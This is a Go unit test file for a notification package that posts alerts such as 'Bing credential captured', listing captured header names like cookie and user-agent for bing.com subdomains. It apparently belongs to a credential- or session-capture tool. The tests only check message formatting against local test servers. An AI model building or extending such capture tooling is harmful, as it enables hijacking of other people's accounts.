package notify

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

func TestSendPublishesHeadersAndBody(t *testing.T) {
	var got struct {
		method, title, tags, priority, contentType, body string
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got.method = r.Method
		got.title = r.Header.Get("Title")
		got.tags = r.Header.Get("Tags")
		got.priority = r.Header.Get("Priority")
		got.contentType = r.Header.Get("Content-Type")
		b, _ := io.ReadAll(r.Body)
		got.body = string(b)
	}))
	defer srv.Close()

	msg := CaptureMessage("cn", []string{"cookie", "user-agent"})
	msg.Priority = 4
	if err := Send(context.Background(), srv.Client(), srv.URL+"/bingo", msg); err != nil {
		t.Fatalf("Send() error = %v", err)
	}

	if got.method != http.MethodPost {
		t.Fatalf("method = %q; want POST", got.method)
	}
	if got.title != "Bing credential captured" {
		t.Fatalf("title = %q", got.title)
	}
	if got.tags != "key,frame_with_picture" {
		t.Fatalf("tags = %q", got.tags)
	}
	if got.priority != "4" {
		t.Fatalf("priority = %q; want 4", got.priority)
	}
	if got.contentType != "text/plain" {
		t.Fatalf("content-type = %q", got.contentType)
	}
	if got.body != msg.Body {
		t.Fatalf("body = %q; want %q", got.body, msg.Body)
	}
}

func TestSendReturnsErrorForServerError(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "server failure", http.StatusInternalServerError)
	}))
	defer srv.Close()

	err := Send(context.Background(), srv.Client(), srv.URL, CaptureMessage("www", nil))
	if err == nil {
		t.Fatal("expected error, got nil")
	}
	if !strings.Contains(err.Error(), "status=500") {
		t.Fatalf("error = %q; want status in message", err)
	}
}

func TestSendRejectsMissingEndpoint(t *testing.T) {
	if err := Send(context.Background(), nil, "", CaptureMessage("www", nil)); err == nil {
		t.Fatal("expected error for missing endpoint")
	}
}

func TestCaptureMessageListsKeysOnly(t *testing.T) {
	msg := CaptureMessage("www", []string{"cookie", "x-forwarded-for"})
	if !strings.Contains(msg.Body, "www.bing.com") {
		t.Fatalf("body %q missing domain", msg.Body)
	}
	if !strings.Contains(msg.Body, "2 headers: cookie, x-forwarded-for") {
		t.Fatalf("body %q missing header names", msg.Body)
	}
	if len(msg.Tags) != 1 {
		t.Fatalf("tags = %v; want only the key tag for www", msg.Tags)
	}
}
